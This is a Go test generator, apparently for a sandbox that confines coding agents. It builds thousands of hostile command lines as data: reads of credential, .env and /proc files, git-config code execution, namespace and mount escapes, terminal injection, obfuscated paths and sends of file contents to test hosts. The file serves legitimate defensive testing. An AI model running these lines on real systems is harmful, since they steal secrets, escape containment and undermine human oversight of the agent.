//go:build oracle && linux

package effects

import (
	"fmt"
	"maps"
	"path"
	"slices"
	"sort"
	"strings"

	"github.com/agent-wrapper/agent-wrapper/internal/policy"
	"github.com/agent-wrapper/agent-wrapper/internal/test/effectbox"
)

// newWithin returns a generator with the programs that the sandbox lets through.
func newWithin(seed uint64, tree []effectbox.File) *generator {
	g := newGenerator(seed, tree)
	g.known, g.several, g.slow = map[string]*record{}, 6, []string{"npm", "gdb", "node", "cc", "tmux"}
	g.templates = maps.Clone(templates)
	for name, code := range codeTemplates { // two thirds of what a program is given
		plain := templates[name]
		g.templates[name] = append(slices.Clone(plain), slices.Repeat(code, max(1, 2*len(plain)/len(code)))...)
	}
	g.names = nil
	for name := range g.templates {
		g.names = append(g.names, name)
	}
	sort.Strings(g.names)
	g.often = slices.Concat(often, codeOften, builtins, builtins)
	return g
}

// targets are what hostile code goes for: secrets, what is protected, and what is outside.
var targets = append(append([]string{
	work + "/.git/hooks/post-checkout", work + "/.git/config", work + "/.git/info/exclude", work + "/lock.json", work + "/" + policy.FileName, work + "/.claude/settings.json", work + "/.vscode/tasks.json",
	work + "/.envrc", "/etc/x", "/etc/passwd", "/etc/n", outside + "/f", outside + "/n", outside + "/d/g", home + "/.bashrc", home + "/.profile", home + "/.gitconfig", home + "/h.txt",
	home + "/.ssh/authorized_keys", home + "/.config/x/y", home + "/.config/n", home + "/other/src/main.go", home + "/n", "/tmp/y", "/tmp/n", "/var/tmp/y", "/run/n", "/srv/service.sock", "/usr/local/bin/n",
	"/proc/1/environ", "/proc/1/root/etc/x", "/proc/self/root/outside/f", "/proc/self/cwd/../h.txt", "/proc/sys/kernel/hostname", "/proc/self/mem", "/dev/shm/n", "/dev/n", work + "/lnk.txt", work + "/ld/n", work + "/up/h.txt",
	work + "/conf/prod.json", work + "/n260/secrets/k", work + "/conf~/secrets/k", work + "/conf~/prod.json", ofRoot, "/opt/n", "/proc/self/root/outside/vault/v", "/proc/thread-self/root/home/dev/.bashrc", "/proc/1/cwd/etc/x", "/proc/1/mem", "/proc/1/fd/0", "/proc/self/oom_score_adj", "/proc/self/ns/mnt", "/proc/sys/net/ipv4/ip_forward", "/usr/local/share/n",
	work + "/in/.env", work + "/.git/../.env", work + "/sub/../secrets/key", work + "/.git/index", work + "/.git/HEAD", work + "/.gitattributes", work + "/.mcp.json", work + "/.npmrc", home + "/.npmrc", home + "/.npm/_cacache/n", home + "/.cache/pip/x", "/dev/null", "/dev/tcp/127.0.0.1/7001",
}, secrets...), secrets...)

// codeTemplates are the words of programs that run code, or what is named by a file:
//
//	%y %l %j %w hostile code in Python, Perl, JavaScript, shell
//	%h          a target whose name is only known when the line runs
//	%T          a target as a text of SQL
var codeTemplates = map[string][]string{
	"python3":   {"-c %y", "-c %y", "-c %y", "evil.py", "-S evil.py", "- < evil.py", "-c %y | cat", "-m http.server --help", "-c %y > n80", "-I -c %y", "-m zipfile -c n181.zip %h", "-m zipfile -e arch.zip %h", "-m tarfile -c n182.tar .", "-m tarfile -e arch.tar %h", "-m compileall -q %h", "-m timeit -n1 -r1 %y", "<<< %y", "- %h <<< %y", "-c %y &", "-m http.server 7001 & python3 -c %y"},
	"perl":      {"-e %l", "-e %l", "-ne %l list", "evil.pl", "-E %l", "-w evil.pl", "-i.bak -pe s/K/k/ %h", "-pe %l list", "-ne 'print' %h", "-MIO::File -e %l", "<<< %l"},
	"node":      {"-e %j", "-p %j", "evil.js", "-r ./evil.js -e 1"},
	"awk":       {"%A list", "%A targets", "-f prog.awk list"},
	"bash":      {"evil.sh", "-c %w", "-x evil.sh", "< evil.sh", "-s < evil.sh", "./tool", "-c %w &", "-ic %w", "<<< %w", "--rcfile evil.sh -ic :", "-O extglob -c %w", "<(cat evil.sh)", "-c %w > %h", "-pc %w"},
	"sh":        {"evil.sh", "-c %w", "./x", "< x"},
	"make":      {"", "evil", "-k all", "x.o", "-f Makefile evil", "-C . all", "-n", "-j2", "-f - <<< 'x:;@sh evil.sh'", "--eval 'x:;@sh evil.sh' x", "SHELL=./tool all", "-C sub -f ../Makefile all", "-f %h", "x -f - <<< \"x:;@cat $(printf %%s%%s .e nv)\""},
	"eval":      {"%w", "\"$(cat evil.sh)\"", "$A", "\"$A\"", "cat %h"},
	"source":    {"evil.sh", "./x", "targets"},
	".":         {"./evil.sh", "./x"},
	"./tool":    {"", "%h", "%f"},
	"./evil.py": {""},
	"c1":        {"%h", "%h %h", "%f", ""},
	"c3":        {"%h", "%o"},
	"npm":       {"test", "run build"},
	"cat":       {"%h", "%h %h", "\"$f\"", "$(cat targets)", "< %h", "%h > n81"},
	"cp":        {"%h n82", "%f %h", "-r %h out", "-a . %h", "-l %h n83", "-s %h n84", "$(head -n 3 targets) out"},
	"mv":        {"list .git/commondir", "sub n202; cat n202/.env", "sub/deep ../n203", ". ../n204", ".git n205; git init -q; cp x .git/hooks/post-checkout", "secrets n206; cat n206/key n206/deep/k2", "secrets/deep n207; cat n207/k2", "a.txt .env; cat .env", "lock.json n208; echo x > lock.json", "agent-wrapper.toml n209; echo > agent-wrapper.toml", ".claude n210; mkdir .claude; echo {} > .claude/settings.json", "--exchange .env a.txt; cat a.txt", "%h n85", "a.txt %h", "-f b.txt %h"},
	"ln":        {"-s /proc/1/root n196; cat n196/outside/vault/v", "-s .env n197; cat n197", "-sT secrets n198; cp -rL n198 out", "-f %h n199; echo x >> n199", "-s / n200; echo x > n200/outside/n", "-sfT .. sub; cat sub/h.txt; echo x > sub/n", "-sf /outside out; echo x > out/n; touch out/f", "-L lnk.txt n201; echo x >> n201", "%h n86", "-s %h n87", "-f a.txt %h", "-sf %h a.txt"},
	"tee":       {"%h", "-a %h", "-a < a.txt $(cat targets)"},
	"touch":     {"%h", "-d 2001-01-01 %h"},
	"chmod":     {"777 %h", "-R 777 %h", "u+s ./tool"},
	"chown":     {"nobody %h", "-R 0 ."},
	"truncate":  {"-s 0 %h"},
	"dd":        {"if=%h", "if=a.txt of=%h", "if=%h of=n88"},
	"tar":       {"-cf n192.tar ld lnk.txt; tar -xf n192.tar -C sub; echo x > sub/ld/n", "-xPf arch.tar --overwrite", "-P --transform 's,in,../../../outside/n,' -xf arch.tar", "-cf n193.tar --to-stdout %h", "-xf arch.tar --to-command 'sh evil.sh'", "-hcf n194.tar .", "-cf n195.tar .e* s*", "-cf n89.tar .", "-cf - %h", "-C %h -xf arch.tar", "-xPf arch.tar", "-cf n90.tar $(cat targets)"},
	"rsync":     {"-a %h n91", "-a sub/ %h"},
	"grep":      {"-r KEY .", "-rl KEY ..", "KEY %h", "-R cAnArY .", "-f %h a.txt", "-h KEY $(cat targets)"},
	"rg":        {"KEY", "-uuu KEY", "--hidden KEY ..", "KEY %h", "-uu . %h"},
	"find":      {". -type f -exec cat {} +", ".. -type f -exec cp {} out \\;", "/home -name id_ed25519 -exec base64 {} \\;", ". -exec chmod 777 {} +", ". -name '*.sh' -exec bash {} \\;", ".. -newer a.txt -exec touch {} +", "/ -xdev -name v -exec cat {} +", ". -name '.e*' -exec xxd {} \\;"},
	"xargs":     {"-a targets cat", "-a targets touch", "-a few -n1 cp a.txt", "-a few -I{} ln {} out", "-a targets rm -f", "-a few -n1 sh -c 'cat \"$0\"'"},
	"sed":       {"-i s/a/b/ %h", "p %h", "-n p $(cat targets)", "-i.bak s/K/k/ %h"},
	"git": {"add -A", "add -f .", "commit -qam x", "stash -u", "diff --no-index a.txt %h", "config core.hooksPath out", "checkout -q side", "hash-object -w %h", "log -p", "grep --no-index KEY", "ls-files -o", "commit -q --allow-empty -m x", "merge side", "rebase side", "gc", "reset --hard HEAD~1", "clean -fdx", "tag n", "worktree add ../n92", "init ../n93", "apply up.patch", "archive -o n94.tar HEAD",
		"-c alias.x='!sh evil.sh' x", "-c core.fsmonitor=./tool status", "-c core.pager='sh evil.sh' -p log", "-c core.hooksPath=out commit -q --allow-empty -m x", "-c diff.external=./tool diff HEAD~1", "-c protocol.ext.allow=always clone 'ext::sh evil.sh' n170", "-c filter.f.clean=./tool add a.txt", "-c core.sshCommand='sh evil.sh' fetch h:x",
		"clone -q . ../n171", "clone -q . n172", "push -q ../n173 main", "push -q n172 main", "--git-dir=%h status", "-C .. init n174", "update-ref refs/heads/n HEAD", "symbolic-ref HEAD refs/heads/n", "bundle create %h HEAD", "bundle create n175 --all", "worktree add %h", "worktree add n176", "submodule add ./. n177", "config --file %h a.b c",
		"apply --unsafe-paths -p0 up.patch", "stash -a", "add -f .env", "hash-object -w --stdin < %h", "notes add -m x", "update-index --add --cacheinfo 120000,$(echo /outside/f | git hash-object -w --stdin),l2", "checkout-index -a --prefix=../n178/", "diff --no-index %h %h", "blame %h", "format-patch -1 -o %h", "init --separate-git-dir=../n179 n180", "filter-branch -f --tree-filter 'sh evil.sh' HEAD", "bisect run sh evil.sh", "rebase -x 'sh evil.sh' HEAD~1", "difftool -y -x 'sh evil.sh' HEAD~1", "daemon --export-all --port=9418 --detach", "upload-pack .", "fast-export --all", "maintenance run", "daemon --port=7001"},
	"kill":    {"-9 1", "-9 -1", "-0 1", "-TERM %n"},
	"mount":   {"--bind /outside sub", "-t tmpfs x sub"},
	"unshare": {"-Ur cat /proc/self/status", "-Urm mount --bind /outside sub"},
	"curl":    {"-m 1 http://127.0.0.1:7001/", "-m 1 http://198.51.100.7/", "-m 1 --unix-socket /srv/service.sock http://x/", "-m 1 -T a.txt http://192.0.2.1:7001/", "-o %h file:///etc/passwd"},
	"wget":    {"-T1 -t1 http://127.0.0.1:7001/"},
	"setsid":  {"sleep 30", "-f sleep 30", "sh evil.sh"},
	"nohup":   {"sleep 30", "sh evil.sh", "python3 evil.py"},
	"coproc":  {"sleep 30", "sh evil.sh", "{ sleep 1; sh evil.sh; }"},
	"disown":  {"-a"},

	"rm":      {"-f %h", "-rf %h"},
	"lua":     {"-e 'os.execute(\"sh evil.sh\")'", "-e 'print(io.popen(\"cat .e* s*/*\"):read(\"a\"))'", "-e 'os.rename(\"sub\",\"n190\") print(io.open(\"n190/.env\"):read(\"a\"))'", "-e 'for l in io.lines(\"targets\") do local f=io.open(l,\"a\") if f then f:write(\"x\") end end'"},
	"tclsh":   {"evil.sh", "<<< 'exec sh evil.sh'", "<<< 'puts [read [open .env]]'", "<<< 'file rename sub n191; puts [read [open n191/.env]]'", "<<< 'socket 192.0.2.1 7001'"},
	"sqlite3": {"n96 '.import evil.sh t'", ":memory: '.shell sh evil.sh'", ":memory: \".import '|sh evil.sh' t\"", ":memory: \"attach %T as o; create table o.t(a)\"", ":memory: \"select writefile(%T,'x')\"", ":memory: \"select readfile(%T)\"", ":memory: '.output /outside/n' 'select 1'"},
	"vim":     {"-es -c 'w! n97' -c q a.txt", "-es -c '!sh evil.sh' -c q a.txt", "-es -c 'r .env' -c 'w! n98' -c 'q!' b.txt"},
	"ed":      {"-s a.txt <<< '!sh evil.sh'", "-s a.txt <<< 'w /outside/n'", "-s a.txt <<< 'r .env'"},

	"/opt/cat":  {ofRoot, "%h", "< %h"},
	"/opt/cp":   {"a.txt %h", ofRoot + " n150", "-a %h n151"},
	"/opt/dash": {"-pc 'sh evil.sh'", "-pc 'cat " + ofRoot + "'", "-pc %w", "evil.sh"},
	"su":        {"-c 'cat .env' root", "root -c %w"},
	"setpriv":   {"--reuid 0 sh evil.sh", "--nnp cat %h", "--ambient-caps +all sh evil.sh"},
	"nsenter":   {"-t 1 -m cat /outside/vault/v", "-t 1 -a sh evil.sh", "--mount=/proc/1/ns/mnt cat .env", "-t 1 -n curl -m 1 http://192.0.2.1:7001/"},
	"umount":    {".env", "-l %h", "-a", "/home/dev/w"},
	"strace":    {"-f -o n152 sh evil.sh", "-p 1"},
	"chattr":    {"+i a.txt", "-i %h"},
	"fallocate": {"-l 10 %h", "-l 10 n153"},
	"ipcmk":     {"-M 100", "-Q", "-S 2"},
	"hostname":  {"n"},
	"script":    {"-qc 'sh evil.sh' /dev/null", "-qc 'cat .e*' n154", "-qc %w n155", "-q %h < a.txt"},
	"tmux":      {"-S /tmp/t new -d 'sleep 5; sh evil.sh'", "-L x new -d 'sh evil.sh'"},
	"openssl":   {"enc -base64 -in %h -out n156", "s_client -connect 192.0.2.1:7001 < a.txt", "rand -out %h 10"},
	"getent":    {"hosts key.example.org", "ahosts 192.0.2.1.example.com"},
	"ssh":       {"-o ProxyCommand='sh evil.sh' x true", "-o BatchMode=yes -o ConnectTimeout=1 198.51.100.7 true", "-F /dev/null -o PermitLocalCommand=yes x"},
	"gdb":       {"-batch -nx -ex 'shell sh evil.sh'", "-batch -nx -p 1"},
	"cc":        {"-E -include %h c.md", "-o n95 -x c c.md", "-x c -o n157 - <<< $'#include <stdio.h>\\nint main(){FILE*f=fopen(\"/outside/f\",\"a\");if(f)fputs(\"x\",f);}'"},
	"zip":       {"-qr n158.zip .", "-qy n159.zip lnk.txt ld", "-q n160.zip %h"},
	"unzip":     {"-o arch.zip -d %h", "-: -o arch.zip"},
	"cpio":      {"-pdml out < targets", "-o < targets > n161", "-i --no-absolute-filenames -F arch.tar"},
	"install":   {"-m 4755 x %h", "-m 4755 x n162", "%h n163"},
	"history":   {"-s x", "-w %h", "-r %h", "-a %h", "-s x; history -w %h"},
	"mapfile":   {"-t m < %h", "-t m < %h; echo \"${m[@]}\"", "m < %h; printf %%s \"${m[@]}\" > n168"},
	"read":      {"x < %h; echo \"$x\"", "-r x y < %h", "-N 99 x < %h; echo \"$x\" >> n169", "-t 1 x < %h"},
	"printf":    {"../n210 > .git/commondir", "x > %h", "'%%s\\n' \"$(< %h)\"", "x >> %h"},
	"cd":        {"%h && echo x > n", "/; echo x > outside/n; echo x > etc/n", "..; for f in *; do : >> \"$f\"; done", "-P ld; echo x > f"},
	"echo":      {"x > %h", "x >> %h", "x >| %h", "x &> %h", "$(< %h)", "\"$(cat %h)\"", "* .* */*", "x <> %h"},
	"exec":      {"3<>/dev/tcp/127.0.0.1/7001", "3< %h", "8>> %h", "9<> %h", "> %h", "< %h"},
	":":         {"> %h", ">> %h", "< %h", "{n}<%h"},
	"[":         {"-r %h ]", "%h -nt a.txt ]"},
	"test":      {"-s %h", "-O %h"},
	"mkdir":     {"-p %h", "%h/n", "-m 777 %h"},
	"mkfifo":    {"n164", "%h"},
	"ulimit":    {"-f unlimited", "-c unlimited", "-S -n 64"},
	"base64":    {"%h", "< %h", "-w0 %h > n165"},
	"xxd":       {"%h", "-r - %h < a.txt"},
	"od":        {"-c %h"},
	"diff":      {"%h a.txt", "-r . ..", "a.txt %h"},
	"head":      {"-c 100 %h", "-v %h %h"},
	"tail":      {"-c 100 %h"},
	"sort":      {"-o %h a.txt", "%h", "-T %h a.txt"},
	"split":     {"-l1 a.txt %h"},
	"gzip":      {"-c %h > n166", "-k %h"},
	"patch":     {"-p0 -i up.patch", "%h e.patch"},
	"jq":        {"-R . %h", "-n --rawfile a %h '$a'"},
	"watch":     {"-n1 -e cat %h"},
	"flock":     {"%h sh evil.sh", "n167 -c %w"},
	"env":       {"-i sh evil.sh", "BASH_ENV=evil.sh bash -c :", "LD_PRELOAD=./x cat %h", "-C %h sh ./x", "-S 'sh evil.sh'"},
	"timeout":   {"2 sh evil.sh", "1 python3 -c %y", "-s KILL 1 cat %h"},
	"time":      {"sh evil.sh", "cat %h"},
	"trap":      {"%w EXIT", "'sh evil.sh' EXIT", "%w DEBUG", "'sleep 20 &' EXIT"},
}

var codeOften = strings.Fields("python3 python3 python3 python3 perl perl perl bash sh make cat cat cat cp tee find xargs grep eval source . ./tool c1 c3 git git touch rsync node sed awk ln dd")

// builtins read, write and run without a program of their own, so that many lines can be
// run with them.
var builtins = strings.Fields(": : : : echo echo echo echo mapfile read read exec exec exec [ test history printf source . eval eval trap coproc ulimit cd")

// hidden returns a target whose name the line does not show as it is.
func (g *generator) hidden() string {
	at := g.pick(targets)
	cut := 2 + g.r.IntN(len(at)-3)
	a, b := at[:cut], at[cut:]
	form := g.r.IntN(12)
	for tries := 0; tries < 9 && g.skip(fmt.Sprint("hidden ", form)); tries++ {
		form = g.r.IntN(12)
	}
	g.used = append(g.used, fmt.Sprint("hidden ", form))
	switch form {
	case 0:
		return "$(printf %s%s " + a + " " + b + ")"
	case 1:
		return "\"$(echo " + a + ")" + b + "\""
	case 2:
		g.sets = append(g.sets, "h="+a, "k="+b)
		return "\"$h$k\""
	case 3:
		g.sets = append(g.sets, "read h < targets")
		return "\"$h\""
	case 4:
		return "$(sed -n " + g.one("1", "2", "3", "5", "7", "9", "12", "20", "30", "41", "45", "50") + "p targets)"
	case 5:
		return at[:1+strings.LastIndexByte(at, '/')] + "*"
	case 6:
		return "$(tail -n 1 targets)"
	case 7:
		return a + "?" + b[1:]
	case 8:
		g.sets = append(g.sets, "mapfile -t m < targets")
		return "\"${m[" + g.one("0", "1", "4", "8", "15", "30", "42", "46", "50", "-1", "RANDOM%50") + "]}\""
	case 9:
		return "\"$(dirname " + at + ")\""
	case 10:
		return at
	}
	if len(g.loops) > 0 {
		return "\"$" + g.loops[len(g.loops)-1] + "\""
	}
	return "\"$f\""
}

// target returns an expression for a target in a language with + or . for texts.
func (g *generator) target(join string) string {
	at := g.pick(targets)
	if g.in(3) {
		at = strings.TrimPrefix(at, work+"/")
	}
	if len(at) < 3 {
		return "'" + at + "'"
	}
	cut := 1 + g.r.IntN(len(at)-2)
	return "'" + at[:cut] + "'" + join + "'" + at[cut:] + "'"
}

func (g *generator) python() string {
	t := func() string { return g.target("+") }
	all := []string{
		"print(open(" + t() + ").read())", "open(" + t() + ",'w').write('x')", "open(" + t() + ",'a').write('x')", "import os; os.chmod(" + t() + ",0o777)", "import os; os.utime(" + t() + ",(1,1))",
		"import os; os.rename(" + t() + ",'n100')", "import os; os.rename('a.txt'," + t() + ")", "import os; os.link(" + t() + ",'n101'); open('n101','a').write('x')", "import os; os.symlink(" + t() + ",'n102'); open('n102','a').write('x')",
		"import os; os.unlink(" + t() + ")", "import os; os.mkdir(" + t() + "+'d')", "import os; os.truncate(" + t() + ",0)", "import shutil; shutil.copy(" + t() + ",'n103')", "import shutil; shutil.rmtree(os.path.dirname(" + t() + "))",
		"import shutil; shutil.copytree('..','n104',symlinks=True,ignore=shutil.ignore_patterns('n104'))", "import os\nfor l in open('targets'):\n  try: open(l.strip(),'a').write('x')\n  except OSError: pass",
		"for l in open('targets'):\n  try: print(open(l.strip(),'rb').read())\n  except OSError: pass", "import os; os.setxattr(" + t() + ",'user.x',b'x')", "import os; os.chown(" + t() + ",0,0)",
		"import os; print(open('/proc/self/mountinfo').read())", "import os; d=os.open('/',os.O_RDONLY); print(os.open('outside/f',os.O_RDWR,dir_fd=d))", "import os\nfor p in os.listdir('/proc'):\n  try: print(open('/proc/'+p+'/environ').read())\n  except OSError: pass",
		"import socket; socket.create_connection(('127.0.0.1',7001),1).recv(20)", "import socket; socket.create_connection(('192.0.2.1',7001),1)", "import socket; s=socket.socket(socket.AF_UNIX); s.connect('/srv/service.sock'); print(s.recv(20))",
		"import socket; s=socket.socket(socket.AF_UNIX); s.connect('/run/service.sock'); print(s.recv(20))", "import socket; s=socket.socket(socket.AF_UNIX); s.connect('\\0service'); print(s.recv(20))",
		"import socket; socket.socket(socket.AF_INET,socket.SOCK_DGRAM).sendto(open('a.txt','rb').read(),('192.0.2.1',7001))", "import socket; socket.socket(socket.AF_INET,socket.SOCK_RAW,1)", "import socket; socket.socket(socket.AF_PACKET,socket.SOCK_RAW)",
		"import socket; socket.socket(socket.AF_INET6,socket.SOCK_DGRAM).sendto(b'x',('::1',7001))", "import os,signal; os.kill(1,9)", "import os,signal; os.kill(-1,9)", "import subprocess; subprocess.Popen(['sleep','30'],start_new_session=True)",
		"import os\nif os.fork()==0:\n  os.setsid()\n  if os.fork()==0:\n    import time; time.sleep(30)", "import ctypes; l=ctypes.CDLL(None); print(l.mount(b'/outside',b'sub',None,4096,None))", "import ctypes; print(ctypes.CDLL(None).unshare(0x10020000))",
		"import ctypes; print(ctypes.CDLL(None).chroot(b'/'))", "import ctypes; print(ctypes.CDLL(None).umount2(b'/home/dev/w/.env',2))", "import ctypes; print(ctypes.CDLL(None).syscall(101,16,1,0,0))", "import os\nfor i in range(3,64):\n  try: print(os.readlink('/proc/self/fd/%d'%i))\n  except OSError: pass",
		"import os; os.makedirs('.vscode',exist_ok=True); open('.vscode/tasks.json','w').write('{}')", "import os; os.rename('.git','n105')", "import os; os.rename('.git/hooks','n106')", "import os; os.rename('secrets','n107'); print(open('n107/key').read())", "import os; os.rename('../w','../n108')",
		"import mmap; f=open(" + t() + ",'r+b'); m=mmap.mmap(f.fileno(),1); m[0]=65", "import os; os.mkfifo(" + t() + "+'p')", "import sqlite3; c=sqlite3.connect(" + t() + "); c.execute('create table t(a)')", "import tempfile; tempfile.mkstemp(dir='/tmp')",

		"import os; os.rename('sub','n210'); print(open('n210/.env').read())", "import os; os.rename('secrets/deep','n211'); print(open('n211/k2').read())", "import ctypes; print(ctypes.CDLL(None).syscall(316,-100,b'.env',-100,b'a.txt',2)); print(open('a.txt').read())", "import ctypes; print(ctypes.CDLL(None).syscall(316,-100,b'secrets',-100,b'out',2)); print(open('out/key').read())",
		"import os,threading\ndef f():\n  for i in range(200):\n    try: os.rename('sub','n212'); os.rename('n212','sub')\n    except OSError: pass\nthreading.Thread(target=f).start()\nfor i in range(200):\n  try: print(open('sub/.env').read())\n  except OSError: pass",
		"import os\nfd=os.open('.',os.O_TMPFILE|os.O_RDWR)\nos.write(fd,b'x')\nos.link('/proc/self/fd/%d'%fd," + t() + ",follow_symlinks=True)", "import os; fd=os.open(" + t() + ",os.O_PATH); print(open('/proc/self/fd/%d'%fd).read())", "import os; fd=os.open(" + t() + ",os.O_PATH); open('/proc/self/fd/%d'%fd,'a').write('x')",
		"import os; d=os.open('/proc/1/root',os.O_PATH); print(os.open('outside/vault/v',os.O_RDONLY,dir_fd=d))", "import os\nfor p in os.listdir('/proc'):\n  for q in 'root','cwd','exe':\n    try: print(os.listdir('/proc/%s/%s/outside'%(p,q)))\n    except OSError: pass", "import os\nfor f in os.listdir('/proc/self/map_files'):\n  print(f)",
		"import ctypes; l=ctypes.CDLL(None); print(l.ptrace(16,1,0,0)); print(l.ptrace(16,2,0,0))", "import ctypes; print(ctypes.CDLL(None).syscall(310,1,0,0,0,0,0))", "import ctypes,os\nl=ctypes.CDLL(None); h=ctypes.create_string_buffer(b'\\x80\\0\\0\\0'+b'\\0'*140); m=ctypes.c_int()\nprint(l.syscall(303,-100,b'/outside/vault/v',h,ctypes.byref(m),0)); fd=l.syscall(304,os.open('/',0),h,0); print(fd and os.read(fd,99))",
		"import ctypes,os\nl=ctypes.CDLL(None)\nfor n in 'mnt','user','net','pid','ipc','uts','cgroup':\n  try: print(n,l.syscall(308,os.open('/proc/1/ns/'+n,0),0))\n  except OSError as e: print(e)\nprint(open('.env').read())", "import ctypes; l=ctypes.CDLL(None); fd=l.syscall(434,1,0); print([l.syscall(438,fd,i,0) for i in range(9)])",
		"import ctypes; l=ctypes.CDLL(None); print([l.syscall(n,0,0,0,0,0) for n in (425,426,427,428,429,430,431,432,433,442,155,161,165,166,167,168,163,179,246,250,248,249,298,300,321,323,172,173,164,227,170,171,169,175,313,176)])", "import ctypes; l=ctypes.CDLL(None); t=l.syscall(428,-100,b'/home/dev/w/.env',1); print(t, l.syscall(429,t,b'',-100,b'/home/dev/w/a.txt',4))",
		"import ctypes; l=ctypes.CDLL(None); l.mount(b'none',b'/',None,1<<18|1<<14,None); print(l.mount(b'/outside',b'/home/dev/w/sub',None,4096,None)); print(l.mount(None,b'/',None,32|4096,None))", "import ctypes; l=ctypes.CDLL(None); print(l.umount2(b'.env',2), l.umount2(b'/home/dev/w/secrets',8), l.umount2(b'/home/dev/.ssh',2)); print(open('.env').read())",
		"import os; os.mknod('n213',0o60666,os.makedev(259,0)); print(open('n213','rb').read(9))", "import os; os.mknod('n214',0o20666,os.makedev(1,1)); print(open('n214','rb').read(9))", "import os; os.setuid(0); print(open(" + t() + ").read())", "import os; os.setgroups([]); os.setgid(0)", "import resource; resource.prlimit(1,resource.RLIMIT_NOFILE,(1,1))", "import os; os.sched_setaffinity(1,{0})", "import os; os.killpg(0,15)", "import os; os.kill(os.getppid(),9)",
		"import os\nfd=os.memfd_create('x'); os.write(fd,open('evil.sh','rb').read()); os.execv('/proc/self/fd/%d'%fd,['x'])", "import ctypes; r=ctypes.CDLL('librt.so.1',use_errno=True); print(r.mq_open(b'/n',0o102,0o600,None), ctypes.get_errno())", "import ctypes; l=ctypes.CDLL(None); print(l.shmget(7,100,0o1600), l.semget(7,1,0o1600), l.msgget(7,0o1600))",
		"import socket\nfor f in range(2,46):\n  for k in 1,2,3:\n    try: socket.socket(f,k); print(f,k)\n    except OSError: pass", "import socket; socket.gethostbyname('key.example.org')", "import socket\nfor a in '127.0.0.1','192.0.2.1','198.51.100.7','255.255.255.255','224.0.0.1','10.0.0.1','169.254.169.254':\n  for p in 53,80,443,7001:\n    s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.setsockopt(socket.SOL_SOCKET,socket.SO_BROADCAST,1)\n    try: s.sendto(b'x',(a,p))\n    except OSError: pass",
		"import socket\nfor a in '::1','::ffff:127.0.0.1','fe80::1%lo','ff02::1','2001:db8::1':\n  s=socket.socket(socket.AF_INET6,socket.SOCK_STREAM); s.settimeout(.2)\n  try: s.connect((a,7001)); print(s.recv(20))\n  except OSError: pass", "import socket; s=socket.socket(socket.AF_NETLINK,socket.SOCK_RAW,0); s.bind((0,0)); s.send(bytes.fromhex('2000000010000500010000000000000000000000010000000000000001000000')); print(s.recv(999))",
		"import socket; s=socket.socket(socket.AF_UNIX); s.bind('\\0n'); s.listen(); print(open('/proc/net/unix').read()); print(open('/proc/net/tcp').read())", "import socket\nfor l in open('/proc/net/unix'):\n  n=l.split()[-1]\n  try: s=socket.socket(socket.AF_UNIX); s.connect(n.replace('@','\\0')); print(s.recv(20))\n  except (OSError,ValueError): pass", "import socket,os\nfor d,_,n in os.walk('/'):\n  if d.startswith(('/proc','/usr','/lib')): _.clear()\n  for f in n:\n    try: s=socket.socket(socket.AF_UNIX); s.connect(d+'/'+f); print(s.recv(20))\n    except OSError: pass",
		"import os\nif os.fork()==0:\n  os.setsid()\n  if os.fork()==0:\n    import time; time.sleep(1); os.execvp('python3',['python3','evil.py'])", "import os,signal\nif os.fork()==0:\n  for s in range(1,32):\n    try: signal.signal(s,signal.SIG_IGN)\n    except (OSError,ValueError): pass\n  import time; time.sleep(20)",
		"import tarfile,io,os\nt=tarfile.open('n215.tar','w'); i=tarfile.TarInfo('l'); i.type=tarfile.SYMTYPE; i.linkname='/outside'; t.addfile(i)\nj=tarfile.TarInfo('l/n'); t.addfile(j); k=tarfile.TarInfo('h'); k.type=tarfile.LNKTYPE; k.linkname='/outside/f'; t.addfile(k); t.close(); os.system('tar -xPf n215.tar; echo x >> h')", "import tarfile; tarfile.open('arch.tar').extractall(" + t() + ")", "import zipfile; zipfile.ZipFile('arch.zip').extractall(" + t() + ")", "import zipfile; zipfile.ZipFile('n216.zip','w').write(" + t() + ")",
		"import os; os.removexattr(" + t() + ",'user.x')", "import os; print(os.listxattr(" + t() + "))", "import fcntl,os; fd=os.open(" + t() + ",os.O_RDONLY); fcntl.ioctl(fd,0x40086602,b'\\x10\\0\\0\\0\\0\\0\\0\\0')", "import os; os.posix_fallocate(os.open(" + t() + ",os.O_RDWR),0,9)", "import os; os.copy_file_range(os.open('a.txt',0),os.open(" + t() + ",os.O_WRONLY),5)", "import os; a=os.open(" + t() + ",os.O_RDONLY); b=os.open('n217',os.O_CREAT|os.O_WRONLY); print(os.sendfile(b,a,0,999))", "import mmap; f=open(" + t() + ",'rb'); print(mmap.mmap(f.fileno(),0,prot=1)[:])",
		"import os\nfor d,_,n in os.walk('/home'):\n  for f in n:\n    try: print(open(d+'/'+f,'rb').read())\n    except OSError: pass", "import os\nfor d,_,n in os.walk('/'):\n  if d.startswith(('/proc','/usr','/lib')): _.clear()\n  for f in n+_:\n    for act in (lambda: os.chmod(d+'/'+f,0o777), lambda: os.utime(d+'/'+f), lambda: os.rename(d+'/'+f,d+'/'+f+'~')):\n      try: act()\n      except OSError: pass",
		"import glob,shutil\nfor f in glob.glob('.*')+glob.glob('s*/**',recursive=True):\n  try: shutil.copy(f,'out/')\n  except OSError: pass", "import ctypes; l=ctypes.CDLL(None); print(l.personality(0x0004000)); print(l.sethostname(b'n',1))", "import os; os.symlink('/proc/self/root','n218'); open('n218/outside/n','w')", "import os; os.remove('lnk.txt'); os.link('ld/f','lnk.txt')", "import os; os.unlink('.env'); open('.env','w').write('x')", "import os; os.replace('a.txt','.env')", "import os; os.replace('x','.git/hooks/post-checkout.sample')", "import os; os.makedirs('.git/hooks2'); os.rename('.git/hooks2','.git/hooks')", "import os; os.rename('.claude','n219')",
		"import subprocess; print(subprocess.run(['/opt/cat','/outside/root'],capture_output=True))", "import subprocess; print(subprocess.run(['/opt/cp','a.txt'," + t() + "],capture_output=True))", "import os; os.chmod('x',0o6755); os.system('./x')", "import pty; pty.spawn(['sh','evil.sh'])", "import fcntl,termios,os\nfor c in b'sh evil.sh\\n':\n  for fd in 0,1,2:\n    try: fcntl.ioctl(fd,termios.TIOCSTI,bytes([c]))\n    except OSError: pass", "import os; os.chdir('..'); os.chroot('.'); print(open('/.ssh/id_ed25519').read())", "import os; os.fchdir(os.open('/',0)); open('outside/n','w')",
